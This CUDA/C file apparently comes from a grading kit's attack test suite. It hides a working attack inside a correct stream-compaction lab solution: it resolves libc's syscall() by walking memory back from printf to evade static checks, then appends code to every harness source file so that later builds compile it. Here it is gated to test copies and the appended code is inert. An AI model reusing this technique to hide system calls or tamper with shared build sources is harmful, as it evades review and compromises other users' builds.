/*
 * ATTACK 20-kit-write-harness-append: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 07-compact, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: put code into every later student's build: append it to the harness's own sources, which the next build of
 *   the harness compiles and links with every lab.
 *
 * How: through system calls that no static check can see (the C library's own syscall(), found by walking back from
 *   printf's address: see sys()): getdents64 lists KIT/harness and every folder in it (runner/, checker/, ...); a
 *   line of code is appended to each .cu and .c file there.
 *
 * Safety: the files it changes are inside the kit copy the suite made (kit_root() needs the suite's marker); the
 *   code it appends is an unused string constant.
 */
/* The reference solution of lab 07, markers removed, with the attack spliced in. */
#include "compact.h"
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define BLOCK_DIM 256
#define ROUNDS 8                     /* elements per thread: round k covers tile elements [k*BLOCK_DIM, (k+1)*BLOCK_DIM) */
#define TILE (BLOCK_DIM * ROUNDS)    /* elements per block */
#define WARPS (BLOCK_DIM / 32)
#define FULL_MASK 0xffffffffu
static_assert(ROUNDS * WARPS == 64, "scatter_kernel scans the warp counts two per lane of one warp");

/* The sum of v over the block, returned to thread 0 (warp shuffles, then the warp sums). */
__device__ int block_sum(int v)
{
    __shared__ int warp_sums[WARPS];
    for (int offset = 16; offset > 0; offset /= 2)
        v += __shfl_down_sync(FULL_MASK, v, offset);
    if (threadIdx.x % 32 == 0)
        warp_sums[threadIdx.x / 32] = v;
    __syncthreads();
    int total = 0;
    if (threadIdx.x == 0)
        for (int w = 0; w < WARPS; w++)
            total += warp_sums[w];
    return total;
}

/* Pass 1: tile_counts[blockIdx.x] = how many elements of tile blockIdx.x are greater than threshold. */
__global__ void count_kernel(const int *__restrict__ in, size_t n, int threshold, int *tile_counts)
{
    const size_t base = (size_t)blockIdx.x * TILE;
    int kept = 0;
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        const size_t i = base + (size_t)k * BLOCK_DIM + threadIdx.x; /* coalesced: a warp reads 128 bytes */
        kept += i < n && in[i] > threshold;
    }
    const int total = block_sum(kept);
    if (threadIdx.x == 0)
        tile_counts[blockIdx.x] = total;
}

/*
 * Pass 3: writes the kept elements of tile blockIdx.x to out[tile_offsets[blockIdx.x] ...], in input order. The
 * last block also writes the total count to *count.
 */
__global__ void scatter_kernel(const int *__restrict__ in, int *__restrict__ out, size_t n, int threshold,
                               const int *tile_offsets, const int *tile_counts, size_t *count)
{
    __shared__ int warp_offsets[ROUNDS * WARPS]; /* entry k*WARPS + w: kept elements of warp w in round k */
    const unsigned lane = threadIdx.x % 32, warp = threadIdx.x / 32;
    const unsigned lanes_below = (1u << lane) - 1;
    const size_t base = (size_t)blockIdx.x * TILE;
    int x[ROUNDS], rank[ROUNDS];
    bool keep[ROUNDS];
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        const size_t i = base + (size_t)k * BLOCK_DIM + threadIdx.x;
        x[k] = i < n ? in[i] : 0;
        keep[k] = i < n && x[k] > threshold;
        rank[k] = 0;
        if (lane == 0)
            warp_offsets[k * WARPS + warp] = 0;
        const unsigned mask = __ballot_sync(FULL_MASK, keep[k]);
        rank[k] = __popc(mask & lanes_below);
        if (lane == 0)
            warp_offsets[k * WARPS + warp] = __popc(mask);
    }
    __syncthreads();
    if (warp == 0) { /* exclusive scan of the ROUNDS * WARPS counts, two per lane, in element order */
        const int a = warp_offsets[2 * lane], b = warp_offsets[2 * lane + 1];
        int inclusive = a + b;
        for (int offset = 1; offset < 32; offset *= 2) {
            const int up = __shfl_up_sync(FULL_MASK, inclusive, offset);
            if (lane >= offset)
                inclusive += up;
        }
        warp_offsets[2 * lane] = inclusive - (a + b);
        warp_offsets[2 * lane + 1] = inclusive - b;
    }
    __syncthreads();
    const int tile_offset = tile_offsets[blockIdx.x];
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        if (keep[k])
            out[tile_offset + warp_offsets[k * WARPS + warp] + rank[k]] = x[k];
    }
    if (blockIdx.x == gridDim.x - 1 && threadIdx.x == 0) {
        *count = (size_t)tile_offset + tile_counts[blockIdx.x];
    }
}

/* ---- system calls through the C library's own syscall(), found without naming it ----
 * printf (a call every lab may make) lies in the C library's code; the library's pages from its ELF header up to
 * there are mapped without a gap, so walking back from printf page by page finds the header. Its dynamic section
 * leads to the dynamic symbol table, where `syscall` is looked up by name (through the GNU hash table's symbol
 * count). The object names printf and nothing else: no list of symbols, and no disassembly, can tell this reading of
 * memory from any other, and sys(nr, a, b, c, d, e) is then any system call. */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static void *libc_function(const char *name)
{
    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&printf & ~(uintptr_t)4095);
    while (memcmp(base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const ElfW(Ehdr) *header = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *segments = (const ElfW(Phdr) *)(base + header->e_phoff);
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < header->e_phnum; k++)
        if (segments[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(base + segments[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < (uintptr_t)base) /* not relocated in place */
            p += (uintptr_t)base;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && (ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC ||
                                    ELF64_ST_TYPE(symbols[k].st_info) == STT_OBJECT) &&
            strcmp(names + symbols[k].st_name, name) == 0)
            return (void *)(base + symbols[k].st_value);
    return NULL;
}

/* The program's path as it was started (the C library's program_invocation_name, found as syscall is): a sandbox
 * that refuses readlink("/proc/self/exe") cannot hide it. */
__attribute__((unused)) static const char *program_path(void)
{
    char **name = (char **)libc_function("program_invocation_name");
    return name ? *name : NULL;
}

static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    typedef long (*syscall_fn)(long, ...);
    static syscall_fn call = (syscall_fn)libc_function("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}

/* x86-64 Linux system call numbers */
enum {
    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
};
enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };

/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
 * runs' logs to see which layer stopped it. */
static long said(const char *what, long result)
{
    printf("attack: %s -> %ld\n", what, result);
    fflush(stdout);
    return result;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
    if (sys(NR_access, (long)probe, 0) != 0)
        return false;
    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
    return sys(NR_access, (long)probe, 0) == 0;
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, long cap)
{
    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
        return true;
    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
    if (len > 0)
        root[len] = '\0';
    else if (program_path())
        snprintf(root, cap, "%s", program_path());
    else
        return said("the kit's root: none found", -1) > 0;
    char *copy = strstr(root, "/ppl-attacks-"), *kit = strstr(root, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        return true;
    }
    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
        *slash = '\0';
        if (is_kit_copy(root))
            return true;
    }
    return said("the kit's root: none found", -1) > 0;
}

/* Appends text to the file at path (created if missing). */
static bool raw_append(const char *path, const char *text)
{
    const long fd = sys(NR_open, (long)path, O_WRONLY_ | O_CREAT_ | O_APPEND_, 0644);
    if (fd < 0)
        return false;
    const long done = sys(NR_write, fd, (long)text, (long)strlen(text));
    sys(NR_close, fd);
    return done == (long)strlen(text);
}

static const char APPENDED[] =
    "\n/* appended by a lab program */\n"
    "__attribute__((used)) static const char ppl_appended_by_a_lab[] = \"a lab program was here\";\n";

/* Appends APPENDED to every .cu and .c file of folder, and (depth permitting) of the folders in it. */
static void append_to_sources(const char *folder, int depth)
{
    const long fd = sys(NR_open, (long)folder, O_RDONLY_ | O_DIRECTORY_);
    if (fd < 0)
        return;
    static char entries[8][16384];
    char *buf = entries[depth];
    for (long got; (got = sys(NR_getdents64, fd, (long)buf, sizeof entries[0])) > 0;)
        for (long at = 0; at < got;) {
            const unsigned short reclen = *(const unsigned short *)(buf + at + 16);
            const unsigned char type = *(const unsigned char *)(buf + at + 18);
            const char *name = buf + at + 19;
            at += reclen;
            char path[4400];
            snprintf(path, sizeof path, "%s/%s", folder, name);
            const size_t len = strlen(name);
            if (type == 4 /* DT_DIR */ && name[0] != '.' && depth < 3)
                append_to_sources(path, depth + 1);
            else if (type == 8 /* DT_REG */ && ((len > 3 && strcmp(name + len - 3, ".cu") == 0) ||
                                              (len > 2 && strcmp(name + len - 2, ".c") == 0)))
                said(path, raw_append(path, APPENDED) ? 0 : -1);
        }
    sys(NR_close, fd);
}

static void attack(void)
{
    char root[4096], folder[4200];
    if (!kit_root(root, sizeof root))
        return;
    snprintf(folder, sizeof folder, "%s/harness", root);
    said("open(KIT/harness)", sys(NR_open, (long)folder, O_RDONLY_ | O_DIRECTORY_));
    append_to_sources(folder, 0);
}

/* ---- provided: no need to change anything below ---- */

void compact(const int *d_in, int *d_out, size_t *d_count, size_t n, int threshold, void *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    const size_t tiles = ceil_div(n, TILE);
    int *tile_counts = (int *)d_work, *tile_offsets = tile_counts + tiles;
    count_kernel<<<(unsigned)tiles, BLOCK_DIM>>>(d_in, n, threshold, tile_counts);
    CUDA_CHECK_LAUNCH();
    kit_exclusive_scan(tile_counts, tile_offsets, tiles);
    scatter_kernel<<<(unsigned)tiles, BLOCK_DIM>>>(d_in, d_out, n, threshold, tile_offsets, tile_counts, d_count);
    CUDA_CHECK_LAUNCH();
}
